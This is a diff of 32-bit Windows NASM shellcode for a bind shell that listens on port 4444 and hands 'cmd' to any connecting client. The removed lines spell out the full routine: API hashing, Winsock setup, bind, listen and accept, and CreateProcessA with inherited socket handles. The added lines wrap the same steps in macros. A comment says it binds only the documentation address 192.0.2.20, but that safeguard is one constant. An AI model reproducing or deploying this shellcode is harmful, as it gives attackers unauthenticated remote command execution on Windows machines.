@@ -1,51 +1,17 @@
 ; Windows, IA-32: a command interpreter for whoever connects to port 4444. It binds the decoy's documentation
 ; address (192.0.2.20, RFC 5737) only, so that it works on no machine that exists.
 bits 32
-%include "demo_resolve.inc"
-HASH load_library, 'LoadLibraryA'
-HASH create_process, 'CreateProcessA'
-HASH exit_thread, 'ExitThread'
-HASH startup, 'WSAStartup'
-HASH make_socket, 'WSASocketA'
+%ifndef PORT
+%define PORT 4444
+%define ADDRESS 0x140200c0
+%endif
+%include "demo_socket.inc"
 HASH bind_socket, 'bind'
 HASH listen_socket, 'listen'
 HASH accept_socket, 'accept'
 
-	RESOLVER
-	push load_library
-	push ebx
-	call ebp
-	lea ecx, AT(library)
-	push ecx
-	call eax
-	mov edi, eax			; ws2_32
-	sub esp, 0x190			; WSADATA
-	push startup
-	push edi
-	call ebp
-	push esp
-	push 0x0202
-	call eax
-	push make_socket
-	push edi
-	call ebp
-	xor ecx, ecx
-	push ecx
-	push ecx
-	push ecx
-	push ecx
-	push byte 1
-	push byte 2
-	call eax			; WSASocketA(AF_INET, SOCK_STREAM, 0, NULL, 0, 0)
-	mov esi, eax
-	push bind_socket
-	push edi
-	call ebp
-	push byte 16
-	lea ecx, AT(name)
-	push ecx
-	push esi
-	call eax
+	NEW_SOCKET
+	NAME_SOCKET bind_socket
 	push listen_socket
 	push edi
 	call ebp
@@ -60,45 +26,4 @@ HASH accept_socket, 'accept'
 	push esi
 	call eax
 	mov esi, eax
-
-	sub esp, 0x54			; STARTUPINFOA (44h) and PROCESS_INFORMATION (10h)
-	mov edi, esp
-	xor eax, eax
-	push byte 0x15
-	pop ecx
-	rep stosd
-	mov edi, esp
-	mov byte [edi], 0x44
-	inc byte [edi + 0x2d]		; STARTF_USESTDHANDLES
-	mov [edi + 0x38], esi
-	mov [edi + 0x3c], esi
-	mov [edi + 0x40], esi
-	push create_process
-	push ebx
-	call ebp
-	lea edx, [edi + 0x44]
-	push edx
-	push edi
-	xor ecx, ecx
-	push ecx
-	push ecx
-	push ecx
-	push byte 1			; handles are inherited
-	push ecx
-	push ecx
-	lea edx, AT(command)
-	push edx
-	push ecx
-	call eax
-	push exit_thread
-	push ebx
-	call ebp
-	push byte 0
-	call eax
-
-library:	db 'ws2_32.dll', 0
-command:	db 'cmd', 0
-name:		dw 2			; AF_INET
-		db 0x11, 0x5c		; port 4444
-		db 192, 0, 2, 20
-		times 8 db 0
+	INTERPRETER
